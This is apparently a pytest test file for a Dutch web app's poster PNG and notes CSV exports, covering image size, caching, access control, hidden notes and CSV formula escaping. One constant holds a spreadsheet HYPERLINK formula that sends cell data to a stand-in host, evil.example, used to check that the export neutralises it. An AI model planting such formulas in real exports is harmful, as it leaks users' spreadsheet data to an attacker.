"""Exports for a newsletter: the poster as a PNG image, the notes as a CSV."""

import csv
import io

from PIL import Image

from canvas.models import Note
from canvas.prompts import PROMPTS

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"Klik")'


def _rows(response):
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_a_member_downloads_the_poster_as_a_png(network, bob, client):
    client.force_login(bob)
    response = client.get(f"/n/{network.slug}/poster.png", {"formaat": "A3"})
    assert response.status_code == 200
    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"].startswith('attachment; filename="onderwijsregio')
    assert response["Content-Disposition"].endswith('-A3.png"')
    image = Image.open(io.BytesIO(response.content))
    assert image.format == "PNG"
    assert image.width == 2400
    # A3 landscape: 420 × 297 mm.
    assert abs(image.height - round(2400 * 297 / 420)) <= 1


def test_the_png_comes_from_the_cache_the_second_time(network, bob, client, monkeypatch):
    from canvas.records import poster

    client.force_login(bob)
    first = client.get(f"/n/{network.slug}/poster.png").content
    monkeypatch.setattr(poster, "png_of_pdf", lambda *a, **k: (_ for _ in ()).throw(AssertionError))
    assert client.get(f"/n/{network.slug}/poster.png").content == first


def test_a_bad_size_for_the_png_is_refused_with_a_message(network, bob, client):
    client.force_login(bob)
    response = client.get(f"/n/{network.slug}/poster.png", {"formaat": "B5"})
    assert response.status_code == 422
    assert "Kies A3, A2, A1 of A0." in response.content.decode()


def test_strangers_and_anonymous_visitors_get_no_png_or_csv(network, charlie, client):
    for path in ("poster.png", "notities.csv"):
        assert client.get(f"/n/{network.slug}/{path}").status_code == 302  # to sign in
    client.force_login(charlie)
    for path in ("poster.png", "notities.csv"):
        assert client.get(f"/n/{network.slug}/{path}").status_code == 404


def test_the_notes_csv_lists_every_note_with_its_place(network, bob, client):
    Note.add(network, PROMPTS["passion"], "Samen sterker", bob)
    client.force_login(bob)
    rows = _rows(client.get(f"/n/{network.slug}/notities.csv"))
    assert rows[0] == ["Bouwsteen", "Vraag", "Notitie", "Status", "Auteur", "Stemmen"]
    assert ["Identiteit", "Verbinding op passie", "Samen sterker", "", "Bob", "0"] in rows
    count = Note.objects.revealed().filter(network=network).count()
    assert len(rows) == 1 + count
    statuses = {row[3] for row in rows[1:] if row[0] == "Spelregels"}
    assert statuses == {"voorstel", "afgesproken"}


def test_the_notes_csv_neutralises_formulas(network, bob, client):
    Note.add(network, PROMPTS["passion"], FORMULA, bob)
    client.force_login(bob)
    cells = [cell for row in _rows(client.get(f"/n/{network.slug}/notities.csv")) for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


def test_the_notes_csv_leaves_hidden_notes_out(network, alice, bob, client):
    Note.add(network, PROMPTS["passion"], "Nog geheim", alice, hidden=True)
    client.force_login(alice)  # even its author: the export is what everyone may read
    body = client.get(f"/n/{network.slug}/notities.csv").content.decode("utf-8-sig")
    assert "Nog geheim" not in body


def test_the_print_page_offers_both(network, bob, client):
    client.force_login(bob)
    body = client.get(f"/n/{network.slug}/poster/").content.decode()
    assert f'action="/n/{network.slug}/poster.png"' in body
    assert f'href="/n/{network.slug}/notities.csv"' in body
